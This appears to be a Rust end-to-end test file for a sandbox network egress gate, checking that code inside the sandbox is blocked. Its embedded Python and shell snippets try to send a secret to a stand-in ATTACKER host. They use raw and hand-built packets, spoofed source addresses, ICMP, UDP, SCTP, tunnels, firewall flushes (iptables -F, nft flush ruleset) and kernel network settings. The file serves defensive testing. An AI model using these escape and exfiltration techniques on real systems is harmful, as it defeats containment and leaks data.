//! Attempts below TCP and beside it: packets made by hand, other protocols, other links.

use super::everywhere;
use k8e_e2e::internet::{ATTACKER, ATTACKER_V6, CDN, HOST, METADATA, RESOLVER};
use serde_json::json;

/// For packets made by hand.
const CRAFT: &str = r#"
def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total >> 16: total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff
def ipv4(protocol, source, target, payload):
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 1, 0, 64, protocol, 0, socket.inet_aton(source), socket.inet_aton(target))
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + payload
def udp(port, data=SECRET): return struct.pack(">4H", 40000, port, 8 + len(data), 0) + data
def syn(port): return struct.pack(">HHIIBBHHH", 40000, port, 1, 0, 0x50, 2, 1000, 0, 0)
def echo(): 
    data = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + SECRET
    return data[:2] + struct.pack(">H", checksum(data)) + data[4:]
"#;

#[test]
fn raw_sockets() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "{CRAFT}\n\
             for protocol, data in (1, echo()), (6, syn(443)), (17, udp(443)), (47, SECRET), (4, ipv4(17, '{HOST}', '{ATTACKER}', udp(443))), (41, SECRET), (50, SECRET), (255, ipv4(17, '198.18.0.2', '{ATTACKER}', udp(443))):\n    \
             for a in '{ATTACKER}', '{CDN}', '{METADATA}', '{HOST}':\n        \
             tried(protocol)\n        \
             try:\n            s = socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol); s.sendto(data, (a, 0))\n        \
             except OSError: pass"
        ));
    });
}

#[test]
fn packet_sockets() {
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "{CRAFT}\n\
             packet = ipv4(17, '198.18.0.2', '{ATTACKER}', udp(443)); frame = b'\\xff' * 6 + b'\\2\\0\\0\\0\\0\\2' + b'\\x08\\0' + packet\n\
             for _, name in socket.if_nameindex():\n    \
             for kind, data in (socket.SOCK_RAW, frame), (socket.SOCK_DGRAM, packet):\n        \
             tried(name)\n        \
             try:\n            s = socket.socket(socket.AF_PACKET, kind, socket.htons(0x800)); s.sendto(data, (name, 0x800, 0, 0, b'\\xff' * 6))\n        \
             except OSError: pass"
        ));
    });
}

#[test]
fn somebody_elses_address() {
    everywhere("good.example", |inside| {
        // By a packet made by hand, and by binding to an address that is not one's own.
        inside.tries(&format!(
            "{CRAFT}\n\
             IP_FREEBIND, IP_TRANSPARENT = 15, 19\n\
             for source in '{HOST}', '{CDN}', '198.18.0.1', '127.0.0.1', '45.20.0.2':\n    \
             try:\n        \
             s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.setsockopt(0, socket.IP_HDRINCL, 1); s.sendto(ipv4(17, source, '{ATTACKER}', udp(443)), ('{ATTACKER}', 0))\n    \
             except OSError: pass\n    \
             for option in IP_FREEBIND, IP_TRANSPARENT:\n        \
             tried(source)\n        \
             for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n            \
             s = socket.socket(socket.AF_INET, kind); s.settimeout(0.2)\n            \
             try:\n                s.setsockopt(0, option, 1)\n            \
             except OSError: pass\n            \
             try:\n                s.bind((source, 0)); s.connect(('{ATTACKER}', 443)); s.send(hello('bad.example')); refused(s.recv(100)) or escaped(source)\n            \
             except OSError: pass"
        ));
    });
}

#[test]
fn icmp() {
    everywhere("good.example", |inside| {
        // By hand, and by the kernel's own ping.
        inside.tries(&format!(
            "{CRAFT}\n\
             for a in '{ATTACKER}', '{CDN}', '{METADATA}', '{HOST}', GATEWAY:\n    \
             for kind in socket.SOCK_RAW, socket.SOCK_DGRAM:\n        \
             tried(a)\n        \
             try:\n            s = socket.socket(socket.AF_INET, kind, 1); s.settimeout(0.3); s.sendto(echo(), (a, 0)); print(s.recv(100))\n        \
             except OSError: pass\n\
             try:\n    s = socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58); s.sendto(b'\\x80\\0\\0\\0\\0\\0\\0\\0' + SECRET, ('{ATTACKER_V6}', 0))\n\
             except OSError: pass"
        ));
    });
}

#[test]
fn udp_443() {
    // QUIC: no gate reads names in it.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "initial = b'\\xc3\\0\\0\\0\\1\\x08' + os.urandom(8) + b'\\0\\0\\x44\\xd0' + os.urandom(1200)\n\
             resolve('good.example')\n\
             for a in '{CDN}', '{ATTACKER}': datagram(a, 443, initial); datagram(a, 443); datagram(a, 80)"
        ));
        let expected = json!({ "protocol": "udp", "address": CDN.to_string(), "port": 443, "reason": "protocol" });
        inside.assert_denied(expected);
        assert!(
            inside
                .internet
                .log()
                .datagrams()
                .iter()
                .all(|one| one.local.port() == 53)
        );
    });
}

#[test]
fn udp_to_any_port() {
    everywhere(
        "good.example,good.example:7777,45.10.0.0/16:7777",
        |inside| {
            inside.tries(&format!(
            "for a in '{ATTACKER}', '{CDN}', '{METADATA}', '{RESOLVER}':\n    \
             for port in 53, 67, 123, 161, 443, 514, 1900, 5353, 7777, 51820, 65535: datagram(a, port, wait=0.05)"
        ));
            inside.assert_denied(
                json!({ "protocol": "udp", "address": ATTACKER.to_string(), "port": 7777 }),
            );
        },
    );
}

#[test]
fn udp_in_large_pieces() {
    // Fragments: only the first has a port.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "for size in 1473, 9000, 60000: datagram('{ATTACKER}', 443, SECRET * (size // 10)); datagram('{ATTACKER}', 53, SECRET * (size // 10)); answers(ask_udp(GATEWAY, SECRET * (size // 10))) and escaped(size)"
        ));
    });
}

#[test]
fn other_protocols() {
    everywhere("good.example", |inside| {
        // SCTP, DCCP, UDP-Lite, multipath TCP.
        inside.tries(&format!(
            "for kind, protocol in (1, 132), (5, 132), (6, 33), (2, 136), (1, 262):\n    \
             for a, port in ('{ATTACKER}', 443), ('{ATTACKER}', 80), ('{CDN}', 7777), ('{METADATA}', 80):\n        \
             tried(protocol)\n        \
             try:\n            \
             s = socket.socket(socket.AF_INET, kind, protocol); s.settimeout(0.5); s.connect((a, port)); s.send(get('bad.example')); refused(s.recv(100)) or escaped(protocol)\n        \
             except OSError: pass"
        ));
    });
}

#[test]
fn a_link_of_ones_own() {
    everywhere("good.example", |inside| {
        inside.tries_sh(&format!(
            "echo tried; for t in 'tuntap add dev t0 mode tun' 'link add d0 type dummy' 'link add v0 type veth peer name v1' 'tunnel add i0 mode ipip remote {ATTACKER}' \
             'link add g0 type gre remote {ATTACKER}' 'link add x0 type vxlan id 1 remote {ATTACKER} dstport 4789' 'link add w0 type wireguard' 'link add m0 type macvlan' \
             'route add {ATTACKER}/32 dev lo' 'route add default via 198.18.0.9' 'route flush table all' 'rule add from all lookup 7' 'addr add 198.18.0.9/24 dev lo' 'addr flush dev lo' 'link set lo down'; do \
             ip $t 2>/dev/null && echo ESCAPED $t; done\n\
             unshare --net true 2>/dev/null; unshare --user --net --map-root-user ip link add d0 type dummy 2>/dev/null\n\
             for t in 'iptables -F' 'iptables -t mangle -F' 'nft flush ruleset'; do $t >/dev/null 2>&1; done; true"
        ));
        inside.tries(&format!("reach('{ATTACKER}', 443, hello('bad.example')); reach('{ATTACKER}', 80, get('bad.example'))"));
    });
}

#[test]
fn the_places_of_the_gate() {
    // Whoever listens where the gate does would be asked in its stead: only by oneself.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "held = []\n\
             for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n    \
             for address in '0.0.0.0', '198.18.0.1', '198.18.0.2', '127.0.0.1':\n        \
             for port in 53, 80, 443, 15001:\n            \
             s = socket.socket(socket.AF_INET, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n            \
             try:\n                s.bind((address, port)); kind == socket.SOCK_STREAM and s.listen(); held.append(s)\n            \
             except OSError: pass\n\
             tried(len(held))\n\
             reach('{ATTACKER}', 443, hello('bad.example')); reach('{ATTACKER}', 80, get('bad.example')); datagram('{ATTACKER}', 53); datagram('{ATTACKER}', 443)"
        ));
    });
}

#[test]
fn settings_of_the_network() {
    everywhere("good.example", |inside| {
        inside.tries_sh(
            "echo tried; cd /proc/sys/net; for s in ipv4/ip_forward ipv4/conf/all/route_localnet ipv4/conf/all/rp_filter ipv4/conf/lo/accept_local \
             ipv4/ip_nonlocal_bind ipv4/ip_early_demux ipv4/tcp_fwmark_accept ipv4/ip_unprivileged_port_start ipv6/conf/all/disable_ipv6 ipv6/conf/all/forwarding; do \
             for v in 0 1 2; do { echo $v > $s; } 2>/dev/null; done; done; true",
        );
        inside.tries(&format!(
            "for a in '{ATTACKER}', '{METADATA}', '{HOST}', '127.0.0.1':\n    \
             reach(a, 443, hello('bad.example')); reach(a, 80, get('bad.example')); datagram(a, 443)\n\
             reach('{ATTACKER_V6}', 443, hello('good.example'), family=socket.AF_INET6)"
        ));
    });
}

#[test]
fn the_ports_of_the_gate() {
    // Whoever gets hold of them, also as IPv6 with IPv4 in it, gets what this sandbox sends.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "IP_TRANSPARENT = 19; held = []\n\
             for family, addresses in (socket.AF_INET, ('0.0.0.0', '198.18.0.1', '198.18.0.2', '{ATTACKER}')), (socket.AF_INET6, ('::', '::ffff:198.18.0.1')):\n    \
             for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM:\n        \
             for address in addresses:\n            \
             for port in 1, 53:\n                \
             tried(address, port)\n                \
             try:\n                    \
             s = socket.socket(family, kind); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n                    \
             if family == socket.AF_INET6: s.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)\n                \
             except OSError: continue\n                \
             try: s.setsockopt(0, IP_TRANSPARENT, 1)\n                \
             except OSError: pass\n                \
             try: s.bind((address, port)); kind == socket.SOCK_STREAM and s.listen(); held.append(s)\n                \
             except OSError: pass\n\
             reach('{ATTACKER}', 443, hello('bad.example')); reach('{ATTACKER}', 1); reach('{ATTACKER}', 53); datagram('{ATTACKER}', 1); datagram('{ATTACKER}', 53)"
        ));
    });
}

#[test]
fn urgent_data() {
    // A byte beside the stream: who reads it in place reads other names than who does not.
    everywhere("good.example", |inside| {
        inside.tries(&format!(
            "def mixed(a, port, data, at):\n    \
             tried(a, port)\n    \
             s = socket.socket(); s.settimeout(0.6); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)\n    \
             try:\n        \
             s.connect((a, port)); s.sendall(data[:at]); s.send(data[at:at + 1], socket.MSG_OOB); s.sendall(data[at + 1:])\n        \
             refused(s.recv(1000)) or escaped(a, port)\n    \
             except OSError: pass\n\
             long = hello('xgood.example'); mixed('{CDN}', 443, long, long.index(b'xgood'))\n\
             bad = get('bad.example'); mixed('{CDN}', 80, bad, bad.index(b'bad')); mixed('{ATTACKER}', 80, bad, 0)\n\
             odd = get('xgood.example'); mixed('{ATTACKER}', 80, odd, odd.index(b'xgood'))\n\
             mixed('{CDN}', 80, b'GET /k8e-secret HTTP/1.1\\r\\nHost: good.exampleX\\r\\nHost: bad.example\\r\\n\\r\\n', 46)"
        ));
    });
}
